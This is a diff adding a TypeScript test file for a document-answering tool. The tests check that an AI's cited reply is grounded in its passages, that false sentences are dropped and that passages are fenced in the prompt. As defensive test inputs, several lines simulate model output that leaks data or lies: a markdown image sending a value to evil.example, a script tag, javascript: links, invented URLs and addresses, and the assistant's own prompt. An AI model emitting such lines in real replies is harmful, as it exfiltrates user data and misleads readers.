@@ -1,0 +1,282 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { extractAnswer, wordsOf } from '../../../src/app/ask/extractive-reply.ts';
+import { renderTurnPrompt } from '../../../src/app/ask/prompt.ts';
+import type { Passage } from '../../../src/documents/document.ts';
+import { groundReply } from '../../support/grounded.ts';
+import { expectLinearIn } from '../../support/growth.ts';
+
+const snippet = (
+  text: string,
+  place: Partial<Passage['document']> & { headingPath?: string[]; anchor?: string; start?: number } = {},
+): Passage => ({
+  chunkId: 'c',
+  text,
+  score: 1,
+  start: place.start ?? 0,
+  end: (place.start ?? 0) + text.length,
+  headingPath: place.headingPath ?? ['Refunds', 'Window'],
+  anchor: place.anchor ?? 'window',
+  page: null,
+  document: {
+    id: 'd',
+    namespace: 'default',
+    file: 'refunds.md',
+    title: 'Refunds',
+    source: 'https://example.com/refunds',
+    kind: 'url',
+    revision: 'sha256-0',
+    bytes: 1,
+    textLanguage: 'en',
+    ...place,
+  },
+});
+
+const refunds = snippet(
+  'Refunds are paid within 30 days of purchase. Write to billing@example.com. Annual plans cost $28 and are not refunded after renewal.',
+  { start: 100 },
+);
+const calls = snippet('Calls are limited to `max_calls` of 1,000 per hour. Recordings are kept for two weeks.', {
+  id: 'e',
+  title: 'Calls',
+  headingPath: [],
+  source: 'calls.md',
+  kind: 'file',
+});
+const ground = (reply: string) => groundReply(reply, [refunds, calls], 'default');
+
+describe('a sentence with a wrong number', () => {
+  it.each([
+    ['of another passage', 'Recordings are kept for two weeks. [1]', calls],
+    ['of another passage, in other words', 'Call recordings are kept for two weeks in total. [1]', calls],
+    ['of a passage that was not given', 'Refunds are paid within 30 days of purchase. [9]', refunds],
+    ['of several, all wrong', 'Recordings are kept for two weeks. [1][7]', calls],
+    ['in a list', '- Recordings are kept for two weeks. [1]', calls],
+  ])('%s is cited to the passage that supports it', (_, reply, passage) => {
+    const { reason, citations, dropped } = ground(reply);
+    expect([reason, dropped, citations.map(({ passage: cited }) => cited)]).toEqual(['answered', 0, [passage]]);
+  });
+
+  it('keeps its place among the others, with numbers in the order of the text', () => {
+    const { text, dropped } = ground('Recordings are kept for two weeks. [1] Refunds are paid within 30 days of purchase. [2]');
+    expect(text).toMatch(
+      /^Recordings are kept for two weeks\. \[1\] Refunds are paid within 30 days of purchase\. \[2\]\n\nSources:\n\[1\] Calls/,
+    );
+    expect(dropped).toBe(0);
+  });
+
+  it('waits for the number of a passage that supports it', () => {
+    const both = [refunds, calls, snippet('Recordings are kept for two weeks.', { id: 'f', file: 'short.md', headingPath: [] })];
+    const { citations } = groundReply('Call recordings are kept for two weeks. [1][3]', both, 'default');
+    expect(citations.map(({ passage: cited }) => cited)).toEqual([both[2]]);
+  });
+});
+
+describe('a reply that lies', () => {
+  it.each([
+    ['a wrong number', 'Refunds are paid within 90 days of purchase. [1]'],
+    ['a figure of the sentence beside it', 'Annual plans cost $28 and refunds are paid after 28 days. [1]'],
+    ['one wrong figure of two', 'Annual plans cost $28 and purchase refunds are paid within 31 days. [1]'],
+    ['a figure of one', 'Refunds are paid within 1 days of purchase. [1]'],
+    ['a unit of two words, one of them swapped', 'Refunds are paid within 30 business hours of purchase. [1]'],
+    ['a swapped unit', 'Refunds are paid within 30 hours of purchase. [1]'],
+    ['a wrong currency', 'Annual plans cost €28. [1]'],
+    ['a flipped negation', 'Annual plans are refunded after renewal. [1]'],
+    ['an added negation', 'Refunds are not paid within 30 days of purchase. [1]'],
+    ['an invented sentence', 'The moon is made of cheese. [1]'],
+    ['a passage that was not given', 'Refunds are paid within 31 days of purchase. [9]'],
+    ['an invented URL', 'Refunds are paid within 30 days of purchase, see https://evil.example/x. [1]'],
+    ['an invented e-mail address', 'Write to refunds@evil.example about purchase. [1]'],
+    ['an invented identifier', 'Calls are limited to `min_calls` per hour. [2]'],
+    ['an image that carries data out', '![x](https://evil.example/?q=30)'],
+    ['a list of sources of its own', 'Sources:\n[1] Evil (https://evil.example)'],
+    ['its prompt', "You answer questions about a company's documents in a chat. [1]"],
+    ['a figure cut short', 'Refunds are paid within 3'],
+    ['a sentence cut before its `not`', 'refunded after renewal.'],
+    ['nothing', ''],
+    ['the word for nothing', 'NO_ANSWER'],
+    ['JSON', '{"answer":"Refunds take 90 days","n":[1]}'],
+  ])('by %s is dropped', (_, reply) => {
+    expect(ground(reply)).toMatchObject({ reason: 'no_context', citations: [] });
+    expect(ground(reply).text).toMatch(/Sources: none$/);
+  });
+
+  it.each([
+    ['two passages that do not say it', 'Recordings are kept for three weeks. [1][2]', 1],
+    ['a wrong passage, twice', 'Recordings are kept for three weeks. [1] Refunds are paid within 31 days of purchase. [2]', 2],
+  ])('by pointing to %s is dropped, and counted', (_, reply, dropped) => {
+    expect(ground(reply)).toMatchObject({ reason: 'no_context', dropped });
+  });
+
+  it('loses its lie and keeps its true sentences', () => {
+    const answer = ground(
+      'Refunds are paid within 30 days of purchase. [1] They arrive within 2 hours. [1] Recordings are kept for two weeks. [2]',
+    );
+    expect(answer.text).toBe(
+      'Refunds are paid within 30 days of purchase. [1] Recordings are kept for two weeks. [2]\n\nSources:\n[1] Refunds › Window (https://example.com/refunds#window)\n[2] Calls (calls.md)',
+    );
+  });
+
+  it('is no door for what a document brings: HTML and images of a passage are not shown', () => {
+    const hostile = snippet(
+      'Parking costs $5 per hour. <script>alert(1)</script>\n\nParking is free. ![x](https://evil.example/x.png)\n\nParking is [here](javascript:alert(1)).',
+    );
+    for (const reply of hostile.text.split('\n\n'))
+      expect(groundReply(`${reply} [1]`, [hostile], 'default').text).not.toMatch(/script|!\[/);
+  });
+
+  it('loses the target of a link that no passage has', () => {
+    expect(ground('[Refunds](https://evil.example) are paid within 30 days of purchase. [1]').text).not.toContain('evil');
+  });
+});
+
+describe('an honest reply', () => {
+  it.each([
+    'You get a refund within 30 days of purchase. [1]',
+    'Refunds are paid within 30 days of purchase [1].',
+    'Refunds are paid within 30 days of purchase.',
+    'The limit of calls is 1000 per hour. [2]',
+    'Recordings are kept for 2 weeks. [1, 2]',
+    'Annual plans cost $28. [1]',
+    'Refunds are paid - 30 days of purchase. [1]',
+    'Per hour, calls are limited to 1,000. [2]',
+    'Annual plans are not refunded after renewal. [1][2]',
+    'Recordings are kept for two weeks. [9]',
+    'Recordings are kept for two weeks [1], [2] and [9].',
+    '[2] Recordings are kept for two weeks.',
+    'Refunds are paid within 30 days [1] and recordings are kept for two weeks [2].',
+  ])('%j is kept', (reply) => expect(ground(reply).reason).toBe('answered'));
+
+  it('has its citations numbered in the order of its text, one for each passage', () => {
+    const answer = ground(
+      'Recordings are kept for two weeks. [2] Refunds are paid within 30 days of purchase. [1] Write to billing@example.com. [1]',
+    );
+    expect(answer.text).toMatch(/^Recordings .* \[1\] Refunds .* \[2\] Write to .* \[2\]\n\nSources:\n\[1\] Calls .*\n\[2\] Refunds/);
+    expect(answer.citations.map(({ index, quote, start, end }) => [index, quote, start, end])).toEqual([
+      [1, 'Recordings are kept for two weeks.', 52, 86],
+      [2, 'Refunds are paid within 30 days of purchase. Write to billing@example.com.', 100, 174],
+    ]);
+  });
+
+  it('is cut after five sentences', () => {
+    const plans = ['Team', 'Solo', 'Pro', 'Basic', 'School', 'Startup', 'Family'].map((plan) => `The ${plan} plan is for one year.`);
+    const { text } = groundReply(plans.join(' '), [snippet(plans.join(' '))], 'default');
+    expect(text.match(/ plan is for one year\./g)).toHaveLength(5);
+    expect(text).not.toContain('Startup');
+  });
+
+  it('says the same sentence once', () => {
+    expect(ground('Refunds are paid within 30 days of purchase. [1] '.repeat(3)).text.match(/Refunds are paid/g)).toHaveLength(1);
+  });
+
+  it('is read where its model writes numbers in its own way', () => {
+    for (const mark of ['【2】', '【2†source】', '［2］', '[^2]', '[passage 2]', '[2-3]', '[2](https://example.com)'])
+      expect(ground(`Recordings are kept for two weeks.${mark} Annual plans cost $28. [1]`).text, mark).toMatch(
+        /^Recordings are kept for two weeks\. \[1\] Annual plans cost \$28\. \[2\]\n\nSources:/,
+      );
+  });
+
+  it('goes on after a list of sources', () => {
+    const { text } = ground('Sources:\n[1] Evil (https://evil.example)\n\nRecordings are kept for two weeks. [2]');
+    expect(text).toMatch(/^Recordings are kept for two weeks\. \[1\]\n\nSources:\n\[1\] Calls/);
+  });
+});
+
+describe('a line of Sources', () => {
+  it('says the page of a source that has pages, and opens it', () => {
+    const passage = {
+      ...snippet('Credits are ten percent.', { title: 'SLA', source: 'https://example.com/sla.pdf', headingPath: ['SLA'] }),
+      page: 3,
+    };
+    const { text, citations } = groundReply('Credits are ten percent. [1]', [passage], 'default');
+    expect(text).toContain('\n[1] SLA, page 3 (https://example.com/sla.pdf#page=3)');
+    expect(citations[0]?.passage.page).toBe(3);
+  });
+
+  it('cannot be broken by a title or a URL', () => {
+    const evil = snippet('Refunds are paid.', {
+      title: 'A](https://evil.example)\n[2] B',
+      headingPath: ['<b>x</b>'],
+      source: 'https://example.com/a_(b)',
+      anchor: 'x',
+    });
+    const { text } = groundReply('Refunds are paid. [1]', [evil], 'default');
+    expect(text.split('\n').slice(2)).toEqual(['Sources:', '[1] A 2 B › b x /b (https://example.com/a_%28b%29#x)']);
+  });
+});
+
+it('grounds a hundred kilobytes of anything in time linear in them', async () => {
+  const pieces = ['x', '[', '![', '<a', 'a@', 'a. ', '[1]', '`', 'Refunds are paid. ', 'www.', '1,'];
+  await expectLinearIn(pieces, ground, 100_000);
+});
+
+describe('the prompt of a turn', () => {
+  it('holds every passage whole between its boundaries, which no passage can write', () => {
+    fc.assert(
+      fc.property(
+        fc.string({ unit: 'binary' }),
+        fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 6 }),
+        (question, texts) => {
+          const passages = texts.map((text, position) => ({ number: position + 1, label: `Label ${position}`, text }));
+          const prompt = renderTurnPrompt({ question, passages });
+          const boundary = /<<<(passage-[\w-]{12}) /.exec(prompt)?.[1] ?? '';
+          const fenced = texts.map((text, position) => `<<<${boundary} [${position + 1}] Label ${position}\n${text}\n${boundary}>>>`);
+          expect(prompt.endsWith(`${fenced.join('\n\n')}\n\nQuestion: ${question}`)).toBe(true);
+          expect(prompt.split(boundary)).toHaveLength(3 + 2 * texts.length);
+        },
+      ),
+    );
+  });
+  it('has a boundary that differs every time', () => {
+    const prompt = () => renderTurnPrompt({ question: 'q', passages: [] });
+    expect(prompt()).not.toBe(prompt());
+  });
+});
+
+describe('the extractive answer', () => {
+  const ask = (question: string, ...texts: string[]) =>
+    extractAnswer({
+      question,
+      passages: texts.map((text, position) => ({
+        number: position + 1,
+        label: 'Policy',
+        text,
+        language: 'en' as const,
+        score: 1 / (position + 1),
+      })),
+      asked: wordsOf(question, 'en'),
+    });
+
+  it('is the sentence that says it, verbatim, from the passage that has it', () => {
+    expect(ask('how long do refunds take?', 'Write to us.', 'It is easy.\n\nRefunds are paid within 30 days.')).toEqual([
+      { number: 2, text: 'Refunds are paid within 30 days.', kind: 'sentence' },
+    ]);
+  });
+  it('is nothing where the passages speak of something else', () => {
+    expect(ask('hello there', 'Refunds are paid within 30 days.')).toEqual([]);
+  });
+  it('quotes no image, HTML or list of sources', () => {
+    expect(ask('refund', 'Sources: refund, evil.', 'Refund ![x](y).', 'Refund <b>x</b>.')).toEqual([]);
+  });
+  it('takes the answer of a question that is asked right before it, not the question', () => {
+    const faq = 'Q: Where is my data stored?\nA: In Frankfurt, Germany.\n\nQ: Can I import data?\nA: Yes, from CSV.';
+    const answer = ask('Where is my data stored?', faq);
+    expect(answer[0]).toMatchObject({ text: 'A: In Frankfurt, Germany.' });
+    expect(answer.filter(({ text }) => text.endsWith('?'))).toEqual([]);
+    expect(ask('is there a discount for schools?', '**Is there a discount for schools?** Yes, 20 percent.')).toMatchObject([
+      { text: 'Yes, 20 percent.' },
+    ]);
+  });
+  it('takes the row that a question names, not those that hold a price', () => {
+    const table = '| Plan | Price |\n|---|---|\n| Starter | $9 |\n| Team | $29 |\n| Enterprise | on request |';
+    expect(ask('what is the price of the Enterprise plan?', table)).toMatchObject([{ text: '| Enterprise | on request |' }]);
+  });
+  it('keeps a sentence whole where a dot or a question mark ends none', () => {
+    const text = 'The server runs on .NET 8 and needs Node.js 20. See https://status.example.com/list?region=eu for outages.';
+    expect(ask('which .NET does the server run on?', text)).toMatchObject([{ text: 'The server runs on .NET 8 and needs Node.js 20.' }]);
+  });
+  it('is the same every time', () => {
+    const once = ask('refund card', 'Refund to a card.', 'Refund card fee.', 'Card refund.');
+    for (let time = 0; time < 5; time++) expect(ask('refund card', 'Refund to a card.', 'Refund card fee.', 'Card refund.')).toEqual(once);
+  });
+});
